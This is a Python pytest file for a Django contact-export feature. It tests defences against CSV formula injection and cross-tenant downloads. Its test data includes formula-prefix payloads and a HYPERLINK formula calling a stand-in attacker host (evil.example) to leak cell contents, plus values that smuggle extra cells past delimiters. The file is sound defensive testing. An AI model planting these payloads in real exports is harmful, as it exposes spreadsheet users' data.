"""What strangers write about themselves does nothing in the spreadsheet of whoever downloads it.

Defended: the computer of a business's staff, against names, tags and messages that are formulas (OWASP: CSV injection),
in programs that split at commas and in those that split at semicolons or tabs.
"""

from __future__ import annotations

import csv
import io

import pytest
from django.http import HttpResponse
from django.test import Client

from businesses.membership import add_member
from businesses.models import Business, Role, User
from businesses.pages.csv_export import csv_answer
from businesses.tenancy import acting_for
from whatsapp.models import Contact

STARTS = (
    "=",
    "+",
    "-",
    "@",
    "＝",
    "＋",
    "－",
    "＠",
    "\t=",
    "\r=",
    "\n=",
    "\r\n@",
    " =",
    "\u00a0=",
    "\u200f=",
    "\ufeff=",
)
CALLS = "HYPERLINK(http://evil.example?&A1)"
SEPARATORS = (",", ";", "\t", "|")


def lines(text: str, separator: str) -> list[list[str]]:
    """The cells as a program reads them that splits at `separator`."""
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=separator))


def content_of(answer: object) -> str:
    assert isinstance(answer, HttpResponse)
    return answer.content.decode()


@pytest.mark.parametrize("start", STARTS)
def test_a_cell_is_no_formula_and_keeps_its_text(start: str) -> None:
    written = start + CALLS
    text = content_of(csv_answer("people", ["name", written], iter([(written, "x")])))
    assert lines(text, ",") == [["name", f"'{written}"], [f"'{written}", "x"]]


@pytest.mark.parametrize("separator", SEPARATORS)
@pytest.mark.parametrize("name", ["Dana;=1+1", "Dana\t=1+1", "Dana|=1+1", "Dana,=1+1", 'Dana";=1+1;"', "Dana\n=1+1"])
def test_no_cell_begins_within_another(name: str, separator: str) -> None:
    text = content_of(csv_answer("people", ["name", "tag"], iter([(name, "x")])))
    body = text.split("\r\n", 1)[1]
    assert body == '"' + name.replace('"', '""') + '","x"\r\n', "every cell is quoted"
    if "\n" not in name and '"' not in name:
        first = lines(text, separator)[1][0]
        assert first.startswith("Dana")
        assert not [cell for row in lines(text, separator) for cell in row if cell.startswith("=")]


def test_a_contact_who_is_named_like_a_formula_is_exported_harmless(db: None) -> None:
    clinic = Business.objects.create(name="Clinic", slug="clinic")
    user = User.objects.create_user("owner@clinic.test", "pw")
    add_member(clinic, user, Role.OWNER)
    with acting_for(clinic):
        for number, start in enumerate(STARTS):
            Contact.objects.create(business=clinic, phone=f"+9725012345{number:02}", name=start + CALLS)
    client = Client()
    client.force_login(user)
    rows = lines(content_of(client.get("/b/clinic/contacts/export/")), ",")
    assert len(rows) == len(STARTS) + 1
    formulas = [cell for row in rows for cell in row if cell.strip()[:1] in set("=-@＝＋－＠")]
    assert formulas == []
    assert [row for row in rows[1:] if not any(cell.startswith("+97250") for cell in row)] == [], "numbers stay numbers"


def test_a_stranger_downloads_nothing(db: None) -> None:
    clinic = Business.objects.create(name="Clinic", slug="clinic")
    other = Business.objects.create(name="Other", slug="other")
    with acting_for(clinic):
        Contact.objects.create(business=clinic, phone="+972501234567", name="Dana")
    stranger = User.objects.create_user("owner@other.test", "pw")
    add_member(other, stranger, Role.OWNER)
    client = Client()
    assert client.get("/b/clinic/contacts/export/").status_code == 302
    client.force_login(stranger)
    assert client.get("/b/clinic/contacts/export/").status_code == 404
    assert "Dana" not in content_of(client.get("/b/other/contacts/export/"))
